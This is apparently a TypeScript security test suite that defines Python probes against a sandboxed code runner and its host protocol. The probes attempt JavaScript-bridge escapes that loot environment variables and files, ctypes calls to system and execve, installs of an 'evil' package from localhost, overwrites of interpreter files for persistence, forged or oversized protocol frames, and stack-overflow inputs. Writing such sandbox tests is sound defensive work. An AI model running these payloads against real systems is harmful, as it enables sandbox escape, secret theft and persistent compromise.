import { attempts, forged, python, trying } from "./python-attempt.ts";
import type { Row } from "./row.ts";

const language = "python";

const noJavaScript = {
  cpython: { skip: "there is no JavaScript beside it" },
  container: { skip: "there is no JavaScript beside it" },
} as const;

/** What a way to JavaScript gives: everything that Deno and its globals may hold. */
const loot = python`
  def loot(found: Any) -> str:
      got: list[str] = []
      for path in ["Deno.env.toObject", "process.env." + %ENV%, "Deno.readTextFileSync", "Deno.version", "globalThis", "constructor.constructor", "fetch", "eval", "Function", "WebAssembly", "import"]:
          try:
              at = found
              for name in path.split("."):
                  at = getattr(at, name)
              got.append(path + " " + show(at(%FILES%[0]) if callable(at) else at))
          except BaseException as error:
              got.append(path + " " + type(error).__name__)
      return "; ".join(got)
`;

/** 2D: WebAssembly, the guest's own protocol, the collector and the native stack. */
export const pyodideRows: readonly Row[] = [
  {
    id: "P064",
    language,
    title: "from Python to JavaScript",
    expect: "ok",
    on: noJavaScript,
    code: `${attempts}\n${loot}\n${python`
      import importlib, importlib.machinery, importlib.util, gc
      for name in ["js", "pyodide_js", "_pyodide_js", "pyodide", "pyodide.code", "pyodide.ffi", "pyodide.http", "pyodide.webloop", "_pyodide", "_pyodide._base", "_pyodide_core", "_pyodide.jsbind", "micropip", "pyodide_http", "pyodide.console", "pyodide._package_loader", "emscripten", "_emscripten", "_jsffi"]:
          found = attempt("import " + name, lambda: importlib.import_module(name))
          if found is not None:
              attempt("loot " + name, lambda: loot(found))
              for way in ["run_js", "create_proxy", "to_js", "pyfetch", "open_url", "JsProxy", "eval_code", "globalThis", "raw_call"]:
                  attempt(name + "." + way, lambda: loot(getattr(found, way)("globalThis")))
          imp: Any = importlib.import_module("_imp")
          attempt("builtin " + name, lambda: loot(imp.create_builtin(importlib.machinery.ModuleSpec(name, loose(importlib.machinery.BuiltinImporter)))) if imp.is_builtin(name) else "none")
      attempt("builtin modules", lambda: [name for name in sys.builtin_module_names if "js" in name or "pyodide" in name or "emscripten" in name])
      attempt("left in modules", lambda: [name for name in sys.modules if name.startswith(("js", "pyodide", "_pyodide"))])
      attempt("finders", lambda: sys.meta_path)
      for one in loose(gc.get_objects()):
          if type(one).__name__.startswith("Js") or type(one).__module__.startswith(("pyodide", "_pyodide")):
              attempt("object " + type(one).__name__, lambda: loot(one))
      for kind in loose(type).__subclasses__(object):
          if "Js" in kind.__name__ or "Proxy" in kind.__name__:
              attempt("class " + kind.__name__, lambda: loot(kind))
      attempt("info", lambda: loose(sys)._emscripten_info)
      out
    `}`,
  },
  {
    id: "P064-native",
    language,
    title: "from Python to JavaScript by the C functions of the WebAssembly module",
    expect: ["ok", "E"],
    on: noJavaScript,
    code: Object.fromEntries(
      [
        "emscripten_run_script",
        "emscripten_run_script_string",
        "emscripten_asm_const_int",
        "run_js",
        "JsvString_FromId",
        "hiwire_get_global",
        "_Py_emscripten_runtime",
        "hiwire_call",
        "dlopen",
        "system",
        "execve",
        "_emscripten_system",
      ].map((name) => [
        name,
        `${attempts}\n${python`
          import importlib
          ctypes: Any = attempt("ctypes", lambda: importlib.import_module("ctypes"))
          script = b"globalThis.Deno ? JSON.stringify(Deno.env.toObject()) : typeof process"
          for library in [lambda: ctypes.CDLL(None), lambda: ctypes.pythonapi, lambda: ctypes.CDLL("")]:
              function = attempt("${name}", lambda: getattr(library(), "${name}"))
              if function is not None:
                  function.restype = ctypes.c_char_p if "string" in "${name}" else ctypes.c_int
                  attempt("call", lambda: function(script))
          out
        `}`,
      ]),
    ),
  },
  {
    id: "P065",
    language,
    title: "packages from elsewhere",
    expect: ["ok", "E"],
    timeout: 5,
    code: trying`
      import importlib
      where = "http://127.0.0.1:%TCP4%/evil-1.0-py3-none-any.whl"
      module: Any = importlib.import_module
      attempt("micropip", lambda: module("micropip").install(where))
      attempt("loadPackage", lambda: module("pyodide_js").loadPackage(where))
      attempt("pip", lambda: module("pip._internal.cli.main").main(["install", "--no-input", "--disable-pip-version-check", "--retries", "0", "--timeout", "1", "--target", "/tmp/site", where]))
      attempt("pip index", lambda: module("pip._internal.cli.main").main(["download", "--no-input", "--disable-pip-version-check", "--retries", "0", "--timeout", "1", "-d", "/tmp/site", "-i", "http://127.0.0.1:%TCP4%/", "evil"]))
      attempt("setuptools", lambda: module("setuptools").setup(name="evil", script_args=["install"]))
      attempt("ensurepip", lambda: module("ensurepip").bootstrap(user=True))
      attempt("venv", lambda: module("venv").create("/tmp/venv", with_pip=False, symlinks=True))
      attempt("uv", lambda: os.system("uv pip install " + where))
    `,
  },
  {
    id: "P067",
    language,
    title: "the interpreter's own files rewritten for the next run",
    expect: "ok",
    returns: [true, null],
    code: {
      "fresh runs": [
        {
          code: trying`
            import glob, importlib
            payload = b"import builtins\nbuiltins.pwned = 1\n"
            library = os.path.dirname(loose(os.__file__) or "/lib/python3.14/os.py")
            targets = [f"{library}/{name}" for name in ("colorsys.py", "json/__init__.py", "site-packages/evil.pth", "sitecustomize.py", "_sysconfigdata.py")]
            targets += glob.glob("/lib/*.zip") + glob.glob("/lib/python3*/*.py")[:20] + [path for path in [loose(sys.executable)] if path]
            for path in targets:
                attempt(path, lambda: open(path, "wb").write(payload))
                attempt("remove " + path, lambda: [os.remove(path), open(path, "wb").write(payload)])
            ctypes: Any = attempt("ctypes", lambda: importlib.import_module("ctypes"))
            for kind in [b"NODEFS", b"IDBFS", b"WORKERFS", b"PROXYFS", b"tmpfs", b"overlay", b"proc"]:
                attempt("mount", lambda: ctypes.CDLL(None).mount(kind, b"/tmp", kind, 0, None))
            attempt("move", lambda: os.rename(library, library + ".old"))
            attempt("cover", lambda: os.symlink("/tmp", library))
          `,
        },
        { code: `import builtins, colorsys, json\n[json.loads("[1]") == [1], getattr(builtins, "pwned", None)]` },
      ],
    },
  },
  {
    id: "P068",
    language,
    title: "results as proxies of the host's objects",
    expect: "ok",
    code: `${attempts}\n${loot}\n${python`
      import gc
      from mcp_tools.attack import echo, frames, odd
      results: list[Any] = []
      for result in [echo(a={"b": [1]}), frames(), odd(json='{"constructor":{"constructor":"x"},"__proto__":{"a":1},"then":1}')]:
          results.append(result)
          for name in ["constructor", "to_py", "js_id", "destroy", "object_values", "typeof", "then", "__proto__", "prototype"]:
              attempt(name, lambda: loot(getattr(result, name)))
      results[0]["a"]["b"].append(results)
      again: Any = echo(a={"b": [1]})
      attempt("another's list", lambda: again["a"]["b"])
      for _ in range(200):
          results.append(echo(a=1))
      attempt("held", lambda: [type(one).__name__ for one in loose(gc.get_objects()) if "Proxy" in type(one).__name__ and "Js" in type(one).__name__])
      [again == {"a": {"b": [1]}}, *out]
    `}`,
  },
  {
    id: "P070",
    language,
    title: "a collection at every allocation, with finalizers in comparisons and keys",
    expect: ["ok", "E"],
    timeout: 5,
    code: python`
      import gc
      from mcp_tools.attack import echo
      gc.set_threshold(1, 1, 1)
      died = 0
      class Garbage:
          def __init__(self):
              self.itself = self
          def __del__(self):
              global died
              died += 1
              gc.collect()
              self.back = [self, Garbage]
      class Key:
          def __init__(self, value): self.value = value
          def __lt__(self, other):
              Garbage()
              kept.clear()
              return self.value < other.value
          def __eq__(self, other):
              Garbage()
              return self is other
          def __hash__(self):
              gc.collect() if self.value % 16 == 0 else None
              return self.value % 4
      kept = [Key(number) for number in range(60)]
      ordered = sorted(list(kept))
      table = {key: Garbage() for key in ordered if Garbage()}
      table.pop(ordered[3])
      [echo(a=[Garbage() and 1 for _ in range(3)]) for _ in range(5)]
      gc.set_threshold(700, 10, 10)
      [len(ordered), died > 0]
    `,
  },
  {
    id: "P071",
    language,
    title: "a run resumed, replayed or cancelled from inside of another",
    expect: "ok",
    returns: [],
    code: forged`
      import coordinator
      reached: list[Any] = []
      def ask(name: str, arguments: Any) -> None:
          try:
              reached.append([name, host.operation(name, json.dumps(arguments))])
          except BaseException as error:
              if "operation" not in str(error):
                  reached.append([name, str(error)[:100]])
      for name in ["resume_run", "cancel_run", "replay_run", "runs.resume", "runs.cancel", "resume", "snapshot", "end_session", "sessions.end", "execute_code", "list_runs", "get_run", "generate_tools", "mcp_add", "save_skill", "__proto__", "constructor", "toString", ""]:
          if not hasattr(coordinator, name or "nothing"):
              ask(name, {"run": "r1", "id": "r1", "approved": True, "code": "1", "state": "AAAA", "session": "other", "name": "other"})
      reached
    `,
  },
  {
    id: "P073",
    language,
    title: "frames that are bombs",
    expect: "E",
    timeout: 3,
    on: { pyodide: { timeout: 20 } },
    code: {
      "a length of 4 GB": {
        steps: forged`
          send(b"\xff\xff\xff\xff{")
          time.sleep(1)
        `,
        expect: "L",
      },
      "a length just over the limit": {
        steps: forged`
          send((16 * 1024 * 1024 + 1).to_bytes(4, "big"))
          time.sleep(1)
        `,
        expect: "L",
      },
      "five million lists in 15 MB": forged`
        forge(b'{"type":"done","value":[' + b"[]," * 5_000_000 + b"1]}")
        time.sleep(2)
      `,
      "five million lists in arguments": forged`
        for number in range(3):
            forge(b'{"type":"call","id":' + str(number + 1000).encode() + b',"server":"off","tool":"echo","args":{"a":[' + b"[]," * 5_000_000 + b"1]}}")
        raise ValueError("sent")
      `,
      "a million keys": forged`
        forge(b'{"type":"call","id":1000,"server":"off","tool":"echo","args":{' + b",".join(b'"k%d":%d' % (n, n) for n in range(800_000)) + b"}}")
        raise ValueError("sent")
      `,
      "depth 10,000": {
        steps: forged`
          forge(b'{"type":"done","value":' + b"[" * 10_000 + b"]" * 10_000 + b"}")
          time.sleep(1)
        `,
        expect: "L",
      },
      "depth hidden in a text": {
        steps: forged`
          forge(b'{"type":"done","value":"' + b"[" * 10_000 + b'\\"' + b"[" * 10_000 + b'"}')
          time.sleep(1)
        `,
        expect: "ok",
      },
      "objects nested 2,000 deep": {
        steps: forged`
          forge(b'{"type":"call","id":1000,"server":"attack","tool":"echo","args":' + b'{"a":' * 2_000 + b"1" + b"}" * 2_000 + b"}")
          time.sleep(1)
        `,
        expect: "L",
      },
      "an unknown type": forged`
        forge({"type": "approve", "approved": True})
        time.sleep(1)
      `,
      "an answer of the host": forged`
        forge({"type": "answer", "id": 1, "value": "forged"})
        time.sleep(1)
      `,
      "invalid UTF-8": forged`
        forge(b"\xff\xfe\x00")
        time.sleep(1)
      `,
      "invalid UTF-8 in a name": forged`
        forge(b'{"type":"call","id":1000,"server":"attack","tool":"forbid\xc0\xe4en","args":{}}')
        raise ValueError("sent")
      `,
      "an empty frame": forged`
        send(bytes(4))
        time.sleep(1)
      `,
      "an empty frame, a million times": forged`
        send(bytes(4_000_000))
        time.sleep(1)
      `,
      "no object": forged`
        forge(b"[1,2,3]")
        time.sleep(1)
      `,
      "no JSON": forged`
        forge(b"{")
        time.sleep(1)
      `,
      "a number of 15 MB": forged`
        forge(b'{"type":"done","value":' + b"9" * 15_000_000 + b"}")
        time.sleep(1)
      `,
      "keys twice": {
        steps: forged`
          forge(b'{"type":"print","type":"call","id":1000,"server":"attack","server":"off","tool":"echo","args":{}}')
          [refused("off", "echo")]
        `,
        expect: "ok",
      },
      "print in pieces of nothing": {
        steps: forged`
          for _ in range(100_000):
              forge(b'{"type":"print","stream":"stdout","text":""}')
        `,
        expect: "ok",
      },
      "wakes without end": forged`
        for number in range(1000):
            forge({"type": "wake", "id": number, "ms": 10**300})
        time.sleep(1)
      `,
      "a wake for ever, of no time, of less": {
        steps: forged`
          for milliseconds in ["1e308", "0", "-1", "null", '"1"']:
              forge('{"type":"wake","id":1000,"ms":' + milliseconds + "}")
          time.sleep(1)
        `,
        expect: "E",
      },
      "a failure with everything": forged`
        forge({"type": "failed", "error": {"name": "x" * 10**6, "message": "m" * 10**6, "stack": {}, "line": -1, "code": 5, "delivery": "maybe", "server": ["a"], "__proto__": {"a": 1}}})
        time.sleep(1)
      `,
      "a limit that is none": forged`
        forge({"type": "limit", "limit": "timeout"})
        time.sleep(1)
      `,
      "a prototype": {
        steps: forged`
          forge(b'{"type":"call","id":1000,"server":"attack","tool":"echo","args":{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}}')
          forge(b'{"__proto__":{"polluted":1},"type":"done","value":{"__proto__":{"polluted":1}}}')
          time.sleep(1)
        `,
        expect: "ok",
      },
    },
  },
  {
    id: "P073-silence",
    language,
    title: "half a frame, then silence; a frame a byte at a time",
    expect: "T",
    timeout: 1,
    slow: true,
    code: {
      "half a header": forged`
        send(b"\0\0")
        while True:
            time.sleep(1)
      `,
      "half a body": forged`
        send(b"\0\xff\xff\xff{")
        while True:
            time.sleep(1)
      `,
      "a byte at a time": forged`
        send((16_000_000).to_bytes(4, "big"))
        while True:
            send(b" ")
            time.sleep(0.01)
      `,
    },
  },
  {
    id: "P074",
    language,
    title: "the native stack overflowed by parser, compiler, repr and comparison",
    expect: ["ok", "E", "M"],
    timeout: 5,
    on: { pyodide: { timeout: 20 } },
    code: {
      parser: `compile("(" * 100000 + ")" * 100000, "x", "eval")`,
      compiler: `import ast\nnode = ast.Constant(1)\nfor _ in range(100000): node = ast.UnaryOp(ast.Not(), node)\ncompile(ast.fix_missing_locations(ast.Expression(node)), "x", "eval")`,
      "binary operators": `eval("+".join(["1"] * 300000))`,
      "unary operators": `eval("-" * 300000 + "1")`,
      attributes: `eval("x" + ".real" * 200000, {"x": 1})`,
      "a deep list": `x = []\nfor _ in range(200000): x = [x]\nrepr(x)`,
      "a deep list returned": `x = []\nfor _ in range(200000): x = [x]\nx`,
      "a deep pattern": `import re\nre.compile("(" * 5000 + ")" * 5000)`,
      "deep isinstance": `kinds = (int,)\nfor _ in range(1000000): kinds = (kinds,)\nisinstance("x", kinds)  # type: ignore`,
      "a deep pickle": `import pickle\nx = []\nfor _ in range(100000): x = [x]\npickle.dumps(x)`,
      "many classes": `kind = object\nfor _ in range(500): kind = type("K", (kind,), {})\nkind.__mro__[5]`,
    },
  },
  {
    id: "P074-deep",
    language,
    title: "the native stack overflowed with the interpreter's own limit lifted",
    expect: ["E", "T"],
    timeout: 3,
    slow: true,
    code: {
      "a deep list with no limit": `import sys\nsys.setrecursionlimit(10**8)\nx = []\nfor _ in range(1000000): x = [x]\nrepr(x)`,
      "deep lists compared": `import sys\nsys.setrecursionlimit(10**8)\na, b = [], []\nfor _ in range(1000000): a, b = [a], [b]\na == b`,
    },
  },
  {
    id: "P074-source",
    language,
    title: "a source that overflows the stack of whoever reads it: the compiler, the check, the host",
    expect: ["R", "E", "ok", "T"],
    timeout: 5,
    slow: true,
    code: {
      brackets: `${"(".repeat(20_000)}1${")".repeat(20_000)}`,
      "open brackets": "[".repeat(50_000),
      "unary operators": `${"-".repeat(50_000)}1`,
      nots: `${"not ".repeat(20_000)}1`,
      sums: `1${"+1".repeat(50_000)}`,
      attributes: `x = 1\nx${".real".repeat(50_000)}`,
      calls: `f = lambda: f\nf${"()".repeat(50_000)}`,
      subscripts: `x = []\nx${"[0]".repeat(50_000)}`,
      blocks: Array.from({ length: 2000 }, (_, depth) => `${" ".repeat(depth)}if 1:`).join("\n"),
      lambdas: `${"lambda: ".repeat(20_000)}1`,
      conditionals: `${"1 if 1 else ".repeat(20_000)}1`,
      strings: `x = ${'f"{'.repeat(200)}1${'}"'.repeat(200)}`,
      comparisons: `1${"<1".repeat(50_000)}`,
      "one long name": `${"x".repeat(500_000)} = 1`,
      "imports of imports": `import ${"a.".repeat(20_000)}a`,
      "100,000 names": Array.from({ length: 100_000 }, (_, index) => `v${index} = ${index}`).join("\n"),
    },
  },
  {
    id: "P074-check",
    language,
    title: "a source that is hard to check",
    expect: ["R", "E", "ok", "T"],
    timeout: 5,
    slow: true,
    code: {
      "a table of 20,000 kinds": `x = [${Array.from({ length: 20_000 }, (_, index) => `{"k${index}": ${index}}`).join(", ")}]\nlen(x)`,
      "lists in lists": `x = ${"[".repeat(90)}1${"]".repeat(90)}\ny = [x, [x], [[x]], {1: x, "a": [x]}]\n1`,
      "a union that grows": `x = 1\n${Array.from({ length: 3000 }, () => "if x: x = [x]").join("\n")}\n1`,
      "loops that depend on each other": `${Array.from({ length: 60 }, (_, index) => `v${index} = None`).join("\n")}\nwhile v0 is None:\n${Array.from({ length: 60 }, (_, index) => `    v${index} = v${(index * 7 + 1) % 60} if v${(index * 3) % 60} else [v${(index * 11) % 60}]`).join("\n")}\n    break\n1`,
      "a chain of calls": `def f(x): return [x, f]\nx = f(1)\n${Array.from({ length: 2000 }, () => "x = x[1](x)").join("\n")}\n1`,
      overloads: `from typing import overload\n${Array.from({ length: 2000 }, (_, index) => `@overload\ndef f(x: tuple[int, ${index}]) -> int: ...`).join("\n")}\ndef f(x): return 1\nf((1, 2))`,
      "recursive types": `from typing import Union\nT = Union[int, "list[T]", "dict[str, T]"]\ndef f(x: T) -> T: return x\nf(${"[".repeat(80)}1${"]".repeat(80)})`,
      "a text of a megabyte": `x = "${"x".repeat(1_000_000)}"\nlen(x)`,
      "comments that configure the check": `# pyright: basic, reportUndefinedVariable=false\n# type: ignore\n1`,
      "a class of 5,000 bases": `${Array.from({ length: 5000 }, (_, index) => `class K${index}${index ? `(K${index - 1})` : ""}: pass`).join("\n")}\n1`,
      "a match of 3,000 cases": `x = input\nmatch x:\n${Array.from({ length: 3000 }, (_, index) => `    case [${index}, {"a": ${index}}, *_]: y = ${index}`).join("\n")}\n1`,
    },
  },
];
